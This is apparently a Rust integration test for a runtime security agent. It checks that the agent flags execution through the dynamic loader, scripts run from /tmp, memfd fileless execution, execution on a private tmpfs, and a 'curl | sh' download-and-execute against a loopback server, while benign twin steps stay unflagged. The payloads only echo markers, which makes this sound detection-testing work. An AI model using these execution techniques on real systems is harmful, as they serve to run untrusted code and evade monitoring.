//! Programs judged by what really runs, end to end: a dropped program run through the dynamic
//! loader, scripts in /tmp run by naming their interpreter, a program run from a memfd, and a
//! download piped into a shell, a program in a `target/` directory under /tmp. Each attack proves the program ran (it prints a marker); the twin
//! runs the honest versions (a workspace script through bash, inline shell code, a shell fed by
//! `echo`, a download piped into `cat`, a program built where `CARGO_TARGET_DIR` says) and must
//! stay quiet.

use integration_tests::{by_rule, Agent, FakeRunner, MARKER_STEP};

#[test]
fn loaders_interpreters_memfd_and_pipes_are_judged_by_the_program() {
    let agent = Agent::start();
    let runner = FakeRunner::outside_tmp();
    let w = runner.workspace.display().to_string();
    // A loopback web server standing in for the download host.
    let served = integration_tests::tempdir_outside_tmp();
    std::fs::write(served.path().join("install.sh"), "echo piped-ran\n").unwrap();
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    drop(listener);
    let mut server = std::process::Command::new("python3")
        .args([
            "-m",
            "http.server",
            "--bind",
            "127.0.0.1",
            &port.to_string(),
        ])
        .current_dir(served.path())
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let url = format!("http://127.0.0.1:{port}/install.sh");
    for _ in 0..50 {
        if std::net::TcpStream::connect(("127.0.0.1", port)).is_ok() {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(100));
    }
    let tmp = tempfile::tempdir().unwrap();
    let t = tmp.path().display().to_string();

    let twin = format!(
        "set -e\nmkdir -p '{w}/scripts' && printf 'echo build-ran\\n' > '{w}/scripts/build.sh'\n\
         cd '{w}' && bash ./scripts/build.sh\n\
         sh -c 'echo inline-ran'\n\
         echo 'echo fed-ran' | sh\n\
         curl -s '{url}' | cat > /dev/null\n\
         mkdir -p '{t}/own-target/debug' && cp /bin/echo '{t}/own-target/debug/app'\n\
         CARGO_TARGET_DIR='{t}/own-target' '{t}/own-target/debug/app' built-ran\n\
         echo twin-done\n"
    );
    let loader = format!(
        "set -e\ncp /bin/echo '{t}/payload'\n\
         L=$(ls /lib64/ld-linux-x86-64.so.2 /lib/ld-linux-aarch64.so.1 2>/dev/null | head -n 1)\n\
         \"$L\" '{t}/payload' loader-ran\n"
    );
    let scripts = format!(
        "set -e\nprintf 'echo bash-script-ran\\n' > '{t}/x.sh' && bash '{t}/x.sh'\n\
         printf 'print(\"python-script-ran\")\\n' > '{t}/x.py' && python3 -u '{t}/x.py'\n"
    );
    // A `target/` directory in /tmp that the job's environment does not name is not tooling.
    let target = format!(
        "set -e\nmkdir -p '{t}/x/target/debug' && cp /bin/echo '{t}/x/target/debug/tool'\n\
         '{t}/x/target/debug/tool' target-ran\n"
    );
    // A program written during the job on a tmpfs only the step's mount namespace has: the
    // agent cannot stat it, the kernel read its change time at exec.
    let private_dir = runner.dir.path().join("private");
    std::fs::create_dir_all(&private_dir).unwrap();
    let p = private_dir.display().to_string();
    let private = format!(
        "unshare -m sh -c \"mount -t tmpfs none '{p}' && cp /bin/echo '{p}/tool' && '{p}/tool' private-ran\"\n"
    );
    let memfd = "python3 -c '\n\
import os\n\
fd = os.memfd_create(\"x\")\n\
os.write(fd, open(\"/bin/echo\", \"rb\").read())\n\
os.execv(\"/proc/self/fd/%d\" % fd, [\"echo\", \"memfd-ran\"])\n'\n"
        .to_string();
    let pipe = format!("curl -s '{url}' | sh\n");
    let output = runner.run_job(&[
        ("twin", &twin),
        ("loader", &loader),
        ("scripts", &scripts),
        ("target", &target),
        ("private", &private),
        ("memfd", &memfd),
        ("pipe", &pipe),
        MARKER_STEP,
    ]);
    let _ = server.kill();
    let _ = server.wait();
    for said in [
        "build-ran",
        "inline-ran",
        "fed-ran",
        "built-ran",
        "twin-done",
        "target-ran",
        "private-ran",
        "loader-ran",
        "bash-script-ran",
        "python-script-ran",
        "memfd-ran",
        "piped-ran",
    ] {
        assert!(output.contains(said), "{said}: {output}");
    }
    let mine = agent.findings_through_marker(&runner);
    assert!(
        !mine.iter().any(|f| f["step"]["id"] == "twin"),
        "the twin must stay quiet: {mine:#?}"
    );
    let temp = by_rule(&mine, "exec-from-temp");
    for (step, program) in [
        ("loader", format!("{t}/payload")),
        ("scripts", format!("{t}/x.sh")),
        ("scripts", format!("{t}/x.py")),
        ("target", format!("{t}/x/target/debug/tool")),
    ] {
        assert!(
            temp.iter()
                .any(|f| f["step"]["id"] == step && f["evidence"]["program"] == program),
            "{step}: {program}: {temp:#?}"
        );
    }
    let written = by_rule(&mine, "exec-of-job-written-file");
    assert!(
        written.iter().any(
            |f| f["step"]["id"] == "private" && f["evidence"]["program"] == format!("{p}/tool")
        ),
        "{mine:#?}"
    );
    let fileless = by_rule(&mine, "fileless-exec");
    assert!(
        fileless.iter().any(|f| f["step"]["id"] == "memfd"),
        "{mine:#?}"
    );
    let piped = by_rule(&mine, "download-and-execute");
    assert!(
        piped.iter().any(|f| f["step"]["id"] == "pipe"
            && f["evidence"]["destination"] == format!("127.0.0.1:{port}")
            && f["evidence"]["interpreter"] == "sh"),
        "{mine:#?}"
    );
}
